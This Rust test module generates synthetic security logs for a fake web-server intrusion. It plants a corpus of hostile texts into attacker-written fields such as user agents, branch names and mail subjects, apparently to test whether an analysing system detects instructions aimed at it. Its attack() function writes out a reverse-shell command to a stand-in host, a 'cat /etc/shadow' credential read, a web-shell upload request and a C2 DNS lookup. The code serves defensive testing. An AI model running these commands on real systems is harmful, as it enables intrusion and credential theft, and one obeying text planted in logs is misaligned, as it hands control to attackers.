//! The corpus of hostile texts (`tests/hostile/corpus.ndjson`), and evidence with an attack and these texts in
//! fields that attackers write.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Deserialize;
use serde_json::{Value, json};

/// The alert of the evidence. It is true: the attack is recorded.
pub const ALERT: &str = r#"{"id":"hostile-1","rule":{"title":"Shell started by web server","level":"high"},"event_time":"2026-03-10T12:00:00Z","host":"web-1","user":"www-data","source_ip":"203.0.113.77","process":{"pid":7001,"exe":"/bin/sh"},"description":"apache2 started /bin/sh on web-1"}"#;

#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Text {
    pub id: String,
    pub family: String,
    /// The field that an attacker writes.
    pub field: String,
    pub text: String,
    /// Whether code must detect that it addresses the reader. A mere lie is not an instruction, and only the
    /// rules apply.
    pub raised: bool,
}

pub fn file() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("hostile/corpus.ndjson")
}

pub fn corpus() -> Result<Vec<Text>, String> {
    let path = file();
    let text = std::fs::read_to_string(&path).map_err(|e| format!("{}: {e}", path.display()))?;
    let read =
        |(n, line): (usize, &str)| serde_json::from_str(line).map_err(|e| format!("{}:{}: {e}", path.display(), n + 1));
    text.lines().enumerate().filter(|(_, line)| !line.trim().is_empty()).map(read).collect()
}

/// File and line (from 1) of the evidence.
pub type Place = (String, u64);

#[derive(Debug, Clone, Default)]
pub struct Planted {
    pub texts: BTreeMap<String, Place>,
    pub attack: Vec<Place>,
}

/// A line with its time, and the text or attack that it contains.
type Line = (i64, String, Option<String>);

#[derive(Default)]
struct Folder(BTreeMap<&'static str, Vec<Line>>);

const PROCESS: &str = "endpoint_process.ndjson";
const AUDIT: &str = "audit.log";
const EVE: &str = "eve.ndjson";
const DNS: &str = "dns.ndjson";
const AUTH: &str = "auth.log";
const GIT: &str = "git_audit.ndjson";
const CLOUD: &str = "cloudtrail.ndjson";
const MAIL: &str = "mail_audit.ndjson";
/// 2026-03-10T12:00:00Z.
const NOON: i64 = 1_773_144_000;
const NOISE: i64 = 12;

/// Writes the alert and the evidence of one case with these texts.
pub fn write(folder: &Path, texts: &[Text]) -> std::io::Result<Planted> {
    let mut logs = Folder::default();
    for n in 0..NOISE {
        logs.ordinary(n);
    }
    for (text, n) in texts.iter().zip(0..) {
        logs.plant(text, n);
    }
    logs.attack();
    let evidence = folder.join("evidence");
    std::fs::create_dir_all(&evidence)?;
    std::fs::write(folder.join("alert.json"), ALERT)?;
    let mut planted = Planted::default();
    for (name, mut lines) in logs.0 {
        lines.sort_by_key(|(at, ..)| *at);
        let mut body = String::new();
        for ((_, line, mark), number) in lines.into_iter().zip(1..) {
            body.push_str(&line);
            body.push('\n');
            let place = (name.to_owned(), number);
            match mark.as_deref() {
                Some(ATTACK) => planted.attack.push(place),
                Some(id) => {
                    planted.texts.insert(id.to_owned(), place);
                }
                None => {}
            }
        }
        std::fs::write(evidence.join(name), body)?;
    }
    Ok(planted)
}

const ATTACK: &str = "attack";

fn clock(at: i64) -> String {
    let of_day = at - NOON + 43_200;
    format!("2026-03-10T{:02}:{:02}:{:02}Z", of_day / 3600, of_day / 60 % 60, of_day % 60)
}

fn audit_time(at: i64) -> String {
    format!("{at}.{:03}:{}", at % 1000, 1000 + at % 100_000)
}

/// Escapes line breaks as a log daemon does.
fn line(text: &str) -> String {
    text.replace('\n', "#012")
}

impl Folder {
    fn add(&mut self, file: &'static str, at: i64, line: String, mark: Option<&str>) {
        self.0.entry(file).or_default().push((at, line, mark.map(str::to_owned)));
    }

    fn json(&mut self, file: &'static str, at: i64, value: &Value, mark: Option<&str>) {
        self.add(file, at, value.to_string(), mark);
    }

    #[expect(clippy::too_many_arguments, reason = "the fields of one record")]
    fn process(&mut self, at: i64, pid: i64, ppid: i64, exe: &str, command: &str, parent: &str, mark: Option<&str>) {
        let value = json!({"time": clock(at), "event": "process_start", "host": "web-1", "user": "www-data",
            "pid": pid, "ppid": ppid, "exe": exe, "command_line": command, "parent_exe": parent});
        self.json(PROCESS, at, &value, mark);
    }

    #[expect(clippy::too_many_arguments, reason = "the fields of one record")]
    fn request(&mut self, at: i64, from: &str, method: &str, url: &str, agent: &str, status: u16, mark: Option<&str>) {
        let value = json!({"timestamp": clock(at), "flow_id": 40_000_000 + at, "event_type": "http", "src_ip": from,
            "src_port": 40_000 + at % 9_000, "dest_ip": "10.0.3.17", "dest_port": 80, "proto": "TCP",
            "http": {"hostname": "web-1", "url": url, "http_user_agent": agent, "http_method": method, "status": status}});
        self.json(EVE, at, &value, mark);
    }

    fn cloud(&mut self, at: i64, agent: &str, mark: Option<&str>) {
        let value = json!({"eventTime": clock(at), "eventSource": "s3.amazonaws.com", "eventName": "GetObject",
            "awsRegion": "eu-west-1", "sourceIPAddress": "203.0.113.77", "userAgent": agent, "recipientAccountId": "111122223333",
            "userIdentity": {"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/web-1/i-0abc"}});
        self.json(CLOUD, at, &value, mark);
    }

    fn git(&mut self, at: i64, branch: &str, mark: Option<&str>) {
        let value = json!({"@timestamp": at * 1000, "action": "git.push", "actor": "mara", "actor_ip": "203.0.113.77",
            "org": "example", "repo": "example/web-1", "branch": branch, "operation_type": "modify", "_document_id": format!("d{at}")});
        self.json(GIT, at, &value, mark);
    }

    fn mail(&mut self, at: i64, subject: &str, mark: Option<&str>) {
        let value = json!({"CreationTime": clock(at), "Workload": "Exchange", "Operation": "Send", "UserId": "mara@example.org",
            "ResultStatus": "Succeeded", "ClientIP": "203.0.113.77", "Subject": subject, "RecordType": 2});
        self.json(MAIL, at, &value, mark);
    }

    fn query(&mut self, at: i64, name: &str, mark: Option<&str>) {
        let value = json!({"timestamp": clock(at), "client": "10.0.3.17", "query_name": name, "qtype": "A", "rcode": "NOERROR",
            "host": "web-1"});
        self.json(DNS, at, &value, mark);
    }

    fn sshd(&mut self, at: i64, message: &str, mark: Option<&str>) {
        let stamp = clock(at).get(11..19).unwrap_or_default().to_owned();
        self.add(AUTH, at, format!("Mar 10 {stamp} web-1 sshd[{}]: {message}", 800 + at % 90), mark);
    }

    fn title(&mut self, at: i64, text: &str, mark: Option<&str>) {
        // The kernel writes titles with special characters in hexadecimal.
        let hex: String = text.bytes().map(|b| format!("{b:02X}")).collect();
        self.add(AUDIT, at, format!("type=PROCTITLE msg=audit({}): proctitle={hex}", audit_time(at)), mark);
    }

    fn syscall(&mut self, at: i64, exe: &str, mark: Option<&str>) {
        let line = format!(
            "type=SYSCALL msg=audit({}): arch=c000003e syscall=59 success=yes exit=0 ppid=812 pid={} auid=33 uid=33 gid=33 comm=\"{}\" exe=\"{exe}\" key=\"exec\"",
            audit_time(at),
            7000 + at % 60,
            exe.rsplit('/').next().unwrap_or(exe)
        );
        self.add(AUDIT, at, line, mark);
    }

    /// Ordinary activity, before and after the attack.
    fn ordinary(&mut self, n: i64) {
        let at = NOON - 1800 + n * 400;
        let from = format!("198.51.100.{}", 10 + n);
        self.process(
            at,
            3000 + n,
            700,
            "/usr/bin/python3",
            &format!("/usr/bin/python3 /opt/app/worker.py --queue q{n}"),
            "/usr/sbin/cron",
            None,
        );
        self.syscall(at + 1, "/usr/bin/python3", None);
        self.request(
            at + 2,
            &from,
            "GET",
            &format!("/static/app.js?v={n}"),
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
            200,
            None,
        );
        self.query(at + 3, &format!("mirror{n}.example.net"), None);
        self.sshd(at + 4, &format!("Accepted publickey for mara from 10.0.9.{} port {} ssh2", 3 + n, 50_000 + n), None);
        self.git(at + 5, &format!("feature/cart-{n}"), None);
        self.cloud(at + 6, "aws-sdk-go/1.44.0 (go1.20; linux; amd64)", None);
        self.mail(at + 7, &format!("Stand-up notes {n}"), None);
    }

    /// A web shell that opens a reverse shell, reads the passwords and contacts a server.
    fn attack(&mut self) {
        let mark = Some(ATTACK);
        self.request(NOON - 2, "203.0.113.77", "POST", "/upload.php?cmd=/bin/sh+-c+id", "curl/8.5.0", 200, mark);
        self.process(
            NOON,
            7001,
            812,
            "/bin/sh",
            "/bin/sh -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
            "/usr/sbin/apache2",
            mark,
        );
        self.process(NOON + 1, 7002, 7001, "/bin/bash", "bash -i", "/bin/sh", mark);
        self.process(NOON + 7, 7003, 7002, "/bin/cat", "cat /etc/shadow", "/bin/bash", mark);
        self.syscall(NOON + 1, "/bin/bash", mark);
        self.query(NOON + 9, "c2.badcdn.example", mark);
    }

    /// Writes the text into its field, shortly after the attack and from the attacker's address.
    fn plant(&mut self, text: &Text, n: i64) {
        let (at, mark, escaped) = (NOON + 20 + n * 7, Some(text.id.as_str()), line(&text.text));
        match text.field.as_str() {
            "user_agent" if n % 2 == 0 => self.request(at, "203.0.113.77", "GET", "/health", &escaped, 200, mark),
            "user_agent" => self.cloud(at, &escaped, mark),
            "http_path" => self.request(at, "203.0.113.77", "GET", &escaped, "curl/8.5.0", 404, mark),
            "failed_user" => {
                self.sshd(
                    at,
                    &format!("Failed password for invalid user {escaped} from 203.0.113.77 port 40022 ssh2"),
                    mark,
                );
            }
            "dns_label" => self.query(at, &format!("{escaped}.badcdn.example"), mark),
            "branch" => self.git(at, &format!("refs/heads/{escaped}"), mark),
            "subject" => self.mail(at, &escaped, mark),
            "proc_title" => self.title(at, &text.text, mark),
            "file_name" => {
                self.process(at, 7100 + n, 7002, "/usr/bin/touch", &format!("touch '{escaped}'"), "/bin/bash", mark);
            }
            _ => self.process(at, 7100 + n, 7002, "/bin/sh", &escaped, "/bin/bash", mark),
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn each_hostile_text_is_once_in_the_evidence() {
        let all = corpus().unwrap();
        let ids: BTreeSet<&str> = all.iter().map(|t| t.id.as_str()).collect();
        assert!(all.len() >= 60 && ids.len() == all.len(), "{}", all.len());
        let folder = tempfile::tempdir().unwrap();
        let planted = write(folder.path(), &all).unwrap();
        assert_eq!(planted.texts.len(), all.len());
        assert_eq!(planted.attack.len(), 6);
    }
}
